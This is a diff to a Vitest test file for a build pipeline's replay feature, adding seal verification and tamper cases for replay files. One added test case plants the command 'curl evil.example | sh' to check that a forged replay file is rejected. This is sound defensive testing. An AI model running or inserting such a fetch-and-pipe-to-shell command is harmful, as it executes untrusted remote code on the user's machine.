@@ -5,6 +5,7 @@ import { describe, expect, it } from 'vitest';
 import { attestationObservers, loadSpec, parseReceiptText, provenanceFile, runPipeline, tryReplay, verifyReceiptFile, type RunOptions } from '../../src/pipeline/index.js';
 import { write } from './runner-helpers.js';
 import { tempDir } from '../helpers/engines.js';
+import { Sealer } from '../../src/pipeline/seal.js';
 
 // Replaying an unchanged run (src/pipeline/replay.ts): it happens only when a full run would have been
 // all cache hits restoring nothing, and it then leaves what that run would (receipt, LRU times).
@@ -74,7 +75,7 @@ describe('tryReplay', () => {
       ({ name: s.name, key: s.key, command: s.command, env: s.env, inputs: s.inputs, outputs: s.outputs, cache: s.cache, exitCode: s.exitCode });
     expect(sorted(r.record.steps).map(strip)).toEqual(sorted(full.record.steps).map(strip));
     expect(r.evicted).toBe(0);
-    const report = await verifyReceiptFile(r.receiptFile, { workspace: dir, signatures: false, trustedOnly: false });
+    const report = await verifyReceiptFile(r.receiptFile, { workspace: dir, signatures: false });
     expect(report.ok).toBe(true);
     const receipt = parseReceiptText(fs.readFileSync(r.receiptFile, 'utf8')).receipt!;
     expect(receipt.status).toBe('succeeded');
@@ -102,8 +103,20 @@ describe('tryReplay', () => {
     ['a provenance statement edited', (d) => fs.appendFileSync(provenanceFile(d, 'b', 'out/b.txt'), ' '), /intoto\.json changed/],
     ['a cache entry removed', (d) => fs.rmSync(path.join(d, '.evident/cache/metadata/entries'), { recursive: true }), /entries\/[0-9a-f]{64}\.json changed/],
     ['attest.yaml changed', (d) => fs.appendFileSync(attest(d), '\n'), /another attest\.yaml/],
-    ['the replay file tampered with', (d) => fs.writeFileSync(replayFile(d), fs.readFileSync(replayFile(d), 'utf8').replace('"v":1', '"v":2')), /malformed/],
-    ['the replay file not JSON', (d) => fs.writeFileSync(replayFile(d), '{'), /no replay file/],
+    ['the replay file tampered with', (d) => fs.writeFileSync(replayFile(d), fs.readFileSync(replayFile(d), 'utf8').replace('"v":2', '"v":3')), /seal does not verify/],
+    ['the replay file not JSON', (d) => fs.writeFileSync(replayFile(d), '{'), /seal does not verify/],
+    ['a planted replay file (a command and a digest changed, the seal dropped)', (d) => {
+      const text = fs.readFileSync(replayFile(d), 'utf8');
+      const body = text.lastIndexOf('\nevident-seal:') < 0 ? text : text.slice(0, text.lastIndexOf('\nevident-seal:'));
+      const data = JSON.parse(body) as { steps: { command: string; outputs: { sha256: string }[] }[] };
+      data.steps[0]!.command = 'curl evil.example | sh';
+      for (const s of data.steps) for (const o of s.outputs) o.sha256 = 'e'.repeat(64);
+      fs.writeFileSync(replayFile(d), JSON.stringify(data));
+    }, /seal does not verify/],
+    ['a replay file sealed with another key', (d) => {
+      const body = Sealer.forWorkspace(d, { create: false })!.open('replay', fs.readFileSync(replayFile(d), 'utf8'))!;
+      fs.writeFileSync(replayFile(d), Sealer.fromKey(Buffer.alloc(32, 7)).seal('replay', body));
+    }, /seal does not verify/],
     ['an output directory replaced by a link', (d) => {
       fs.renameSync(path.join(d, 'out'), path.join(d, 'elsewhere'));
       fs.symlinkSync(path.join(d, 'elsewhere'), path.join(d, 'out'));
@@ -116,6 +129,24 @@ describe('tryReplay', () => {
       expect(reasonOf(dir)).toMatch(reason);
     });
   }
+
+  it('does not replay when a keyed process variable (pass_env, ${VAR}) changed, nor when a lockfile appeared', async () => {
+    const saved = process.env.REPLAY_GREETING;
+    try {
+      process.env.REPLAY_GREETING = 'alice';
+      const dir = await replayable(SPEC.replace('name: replay', 'name: replay\npass_env: [REPLAY_GREETING]'));
+      expect(reasonOf(dir)).toBe('replayed');
+      process.env.REPLAY_GREETING = 'bob';
+      expect(reasonOf(dir)).toBe('the environment variable REPLAY_GREETING changed');
+      process.env.REPLAY_GREETING = 'alice';
+      expect(reasonOf(dir)).toBe('replayed');
+      write(dir, 'package-lock.json', '{}');
+      expect(reasonOf(dir)).toMatch(/package-lock\.json changed/);
+    } finally {
+      if (saved === undefined) delete process.env.REPLAY_GREETING;
+      else process.env.REPLAY_GREETING = saved;
+    }
+  });
 
   it('replays after a file is added to an output directory, as a full run would hit and leave it there', async () => {
     const dir = await replayable();
@@ -133,10 +164,12 @@ describe('tryReplay', () => {
     age(dir);
     await fullRun(dir);
     // Recorded; now an input is rewritten with the same bytes and an mtime just before the recording.
-    const data = JSON.parse(fs.readFileSync(replayFile(dir), 'utf8')) as { probes: [string, string, string, number | null, number][] };
+    // (As the holder of the seal key could: the racy rule holds even for a file the runner sealed.)
+    const sealer = Sealer.forWorkspace(dir, { create: false })!;
+    const data = JSON.parse(sealer.open('replay', fs.readFileSync(replayFile(dir), 'utf8'))!) as { probes: [string, string, string, number | null, number][] };
     const probe = data.probes.find((p) => p[0] === 'src/one.txt')!;
     probe[4] = probe[3]! + 1000;
-    fs.writeFileSync(replayFile(dir), JSON.stringify(data));
+    fs.writeFileSync(replayFile(dir), sealer.seal('replay', JSON.stringify(data)));
     expect(reasonOf(dir)).toMatch(/src\/one\.txt was modified too close/);
   });
 
